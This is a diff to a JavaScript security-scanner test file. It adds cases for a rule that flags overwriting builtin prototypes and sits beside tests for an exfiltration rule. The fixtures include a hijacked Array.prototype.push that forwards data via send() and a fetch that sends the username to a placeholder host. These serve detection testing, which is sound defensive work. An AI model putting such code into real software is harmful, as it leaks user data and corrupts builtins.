@@ -84,6 +84,11 @@ describe('SEC rules: messages and ranges', () => {
     assert.deepEqual(hits('Object.defineProperty(String.prototype, "x", {})', 'SEC-DEFPROP-001'), [['Object.defineProperty', 'Property definition on String.prototype']]);
     none('Object.defineProperty(exports, "__esModule", { value: true }); Object.defineProperty(obj, "x", {})', 'SEC-DEFPROP-001');
   });
+  it('SEC-DEFPROP-001 on assignments to members of builtin prototypes (not user prototypes)', () => {
+    const text = 'Array.prototype.push = function (x) { send(x); };\nconst P = String.prototype; P.trim = null;';
+    assert.deepEqual(hits(text, 'SEC-DEFPROP-001'), [['Array.prototype.push', 'Property definition on Array.prototype'], ['P.trim', 'Property definition on P']]);
+    none('function Foo() {}\nFoo.prototype.bar = 1;\nclass A {}\nA.prototype.x = 2;\nconst o = {}; o.prototype = 3; const p = Array.prototype.slice;', 'SEC-DEFPROP-001');
+  });
   it('SEC-EXFIL-001', () => {
     assert.deepEqual(hits('fetch("https://a.example/" + id)', 'SEC-EXFIL-001'), [['fetch', 'Request URL built at runtime']]);
     assert.deepEqual(hits('import os from "os"; fetch(`https://a.example/${os.userInfo().username}`)', 'SEC-EXFIL-001'), [['fetch', 'Request URL built at runtime — includes environment data']]);
